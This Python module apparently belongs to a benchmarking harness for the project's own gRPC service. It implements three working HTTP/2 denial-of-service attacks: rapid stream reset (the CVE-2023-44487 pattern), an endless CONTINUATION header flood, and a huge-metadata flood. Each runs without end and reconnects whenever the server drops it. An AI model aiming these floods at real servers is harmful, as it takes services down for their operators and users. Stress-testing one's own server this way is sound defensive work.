"""Raw HTTP/2 attacks on a gRPC port, for scripts/bench_tenants.py: what a client that does not
play by gRPC's rules can send before any key is checked.

Each attack holds ``connections`` TCP connections to the port and speaks HTTP/2 itself (frames
from ``hyperframe``, header blocks from ``hpack``), so it can send what no gRPC library sends:

* :func:`rapid_reset`: a stream opened (a Converse call's headers) and reset at once, in batches,
  as fast as the connection takes them (CVE-2023-44487's pattern);
* :func:`continuation_flood`: one header block that never ends: HEADERS without END_HEADERS,
  then CONTINUATION frames of new header fields without end (the 2024 CONTINUATION floods);
* :func:`metadata_flood`: calls whose header block carries ``entries`` metadata entries.

A connection the server closes (GOAWAY, a reset) is opened again; each attack runs until it is
cancelled. What the server answers is read and dropped, so its writes never stall on us.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import Awaitable, Callable

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

Attack = Callable[[asyncio.StreamWriter, str], Awaitable[None]]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CONVERSE = "/omni.duplex.v1.DuplexService/Converse"
CANCEL = 0x8
MAX_STREAM_ID = 2**31 - 1


def _request_headers(host: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", CONVERSE),
        (":authority", host),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


async def _connection(host: str, port: int) -> tuple[asyncio.StreamWriter, asyncio.Task[None]]:
    """A connection past the preface, with a task that reads and drops what the server says."""
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(PREFACE + SettingsFrame(0).serialize())

    async def drain() -> None:
        with contextlib.suppress(ConnectionError):
            while await reader.read(65536):
                pass

    return writer, asyncio.create_task(drain())


async def _hold(host: str, port: int, attack: Attack) -> None:
    """Runs ``attack(writer, host)`` on a fresh connection, again each time it ends."""
    while True:
        try:
            writer, drain = await _connection(host, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        try:
            await attack(writer, f"{host}:{port}")
        except (ConnectionError, OSError):
            pass
        finally:
            drain.cancel()
            writer.close()


async def rapid_reset(host: str, port: int, connections: int = 8, batch: int = 100) -> None:
    """Opens and resets streams in batches of ``batch`` on each connection, without end."""
    encoder = Encoder()
    block = encoder.encode(_request_headers(f"{host}:{port}"))

    async def attack(writer: asyncio.StreamWriter, _authority: str) -> None:
        stream_ids = itertools.count(1, 2)
        while True:
            frames = bytearray()
            for _ in range(batch):
                stream_id = next(stream_ids)
                if stream_id > MAX_STREAM_ID:
                    return
                frames += HeadersFrame(stream_id, block, flags=["END_HEADERS"]).serialize()
                frames += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
            writer.write(bytes(frames))
            await writer.drain()

    await asyncio.gather(*(_hold(host, port, attack) for _ in range(connections)))


async def continuation_flood(host: str, port: int, connections: int = 8) -> None:
    """Sends, on each connection, a header block that never ends."""

    async def attack(writer: asyncio.StreamWriter, authority: str) -> None:
        encoder = Encoder()  # per connection: the server's HPACK table follows this one's
        writer.write(HeadersFrame(1, encoder.encode(_request_headers(authority))).serialize())
        for n in itertools.count():
            # New names each time, so the table never serves them: every field costs in full.
            fields = [(f"x-flood-{n}-{k}", "v" * 64) for k in range(64)]
            writer.write(ContinuationFrame(1, encoder.encode(fields)).serialize())
            await writer.drain()

    await asyncio.gather(*(_hold(host, port, attack) for _ in range(connections)))


async def metadata_flood(host: str, port: int, connections: int = 8, entries: int = 3000) -> None:
    """Opens calls whose headers carry ``entries`` metadata entries each, without end."""

    async def attack(writer: asyncio.StreamWriter, authority: str) -> None:
        encoder = Encoder()
        fields = _request_headers(authority) + [(f"x-m-{k}", "v") for k in range(entries)]
        for stream_id in itertools.count(1, 2):
            if stream_id > MAX_STREAM_ID:
                return
            block = encoder.encode(fields)
            # Cut into frames of the default maximum size (16 KiB), as a client must.
            pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]
            frames = bytearray()
            for index, piece in enumerate(pieces):
                last = index == len(pieces) - 1
                flags = ["END_HEADERS"] if last else []
                frame = (
                    HeadersFrame(stream_id, piece, flags=flags)
                    if index == 0
                    else ContinuationFrame(stream_id, piece, flags=flags)
                )
                frames += frame.serialize()
            frames += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
            writer.write(bytes(frames))
            await writer.drain()

    await asyncio.gather(*(_hold(host, port, attack) for _ in range(connections)))
